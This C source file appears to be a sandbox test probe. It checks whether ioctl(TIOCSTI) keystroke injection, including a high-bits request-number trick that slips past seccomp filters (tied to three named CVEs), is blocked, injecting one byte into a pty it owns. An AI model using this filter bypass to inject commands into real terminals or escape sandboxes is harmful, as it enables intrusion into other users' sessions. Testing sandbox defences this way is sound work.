/* Attack: push characters into a terminal's input queue with ioctl(TIOCSTI), the request
 * number carrying garbage in its high 32 bits (the kernel truncates it, a filter comparing all
 * 64 bits does not): CVE-2017-5226, CVE-2019-10063, CVE-2023-28100.
 *
 * usage: tiocsti [--high-bits]
 * Reports "marker_errno" for ioctl(-1, TIOCSTI...) (EBADF when it reaches the kernel, EPERM
 * from a seccomp rule) and the real injection into a fresh pty we own as controlling terminal.
 */
#include "probe.h"
#include <fcntl.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>

static unsigned long request(int high)
{
    return (unsigned long)TIOCSTI | (high ? (1UL << 32) : 0UL);
}

/* In a new session, open a pty slave as controlling terminal and inject one byte into it. */
static long inject(int high, int *err)
{
    if (setsid() < 0) {
        *err = errno;
        return -1;
    }
    int master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0) {
        *err = errno;
        return -1;
    }
    int slave = open(ptsname(master), O_RDWR | O_CLOEXEC); /* no O_NOCTTY: becomes our ctty */
    if (slave < 0) {
        *err = errno;
        return -1;
    }
    char c = 'Z';
    long r = syscall(SYS_ioctl, slave, request(high), &c);
    *err = errno;
    return r;
}

int main(int argc, char **argv)
{
    int high = argc > 1 && !strcmp(argv[1], "--high-bits");
    char c = 'Z';
    errno = 0;
    long marker = syscall(SYS_ioctl, -1, request(high), &c);
    int marker_err = errno;

    /* setsid() fails for a process group leader, so inject from a child. */
    int fds[2];
    if (pipe(fds) < 0)
        return 1;
    pid_t pid = fork();
    if (pid == 0) {
        int err = 0;
        long r = inject(high, &err);
        int out[2] = {(int)r, err};
        if (write(fds[1], out, sizeof out) != sizeof out)
            _exit(1);
        _exit(0);
    }
    int in[2] = {-1, EIO};
    if (pid < 0 || read(fds[0], in, sizeof in) != sizeof in)
        in[1] = pid < 0 ? errno : EIO;
    if (pid > 0)
        waitpid(pid, NULL, 0);

    char extra[128];
    snprintf(extra, sizeof extra, "\"high_bits\":%s,\"marker_errno\":\"%s\"",
             high ? "true" : "false", marker < 0 ? ar_errname(marker_err) : "");
    ar_emit("tiocsti", "ioctl_tiocsti", in[0], in[1], extra);
    return 0;
}
